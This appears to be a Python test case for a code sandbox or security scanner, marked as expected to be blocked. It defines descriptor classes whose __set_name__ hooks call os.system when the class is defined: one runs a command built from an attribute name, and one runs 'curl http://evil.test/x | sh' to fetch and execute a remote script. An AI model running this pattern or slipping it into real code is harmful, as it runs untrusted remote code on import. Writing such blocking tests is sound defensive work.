# expect: BLOCKED
import os
class Field:
    def __set_name__(self, owner, name):
        os.system(name.replace("_", " "))
class Form:
    rm = Field()
class D:
    def __set_name__(self, owner, name):
        os.system("curl http://evil.test/x | sh")
class E:
    x = D()
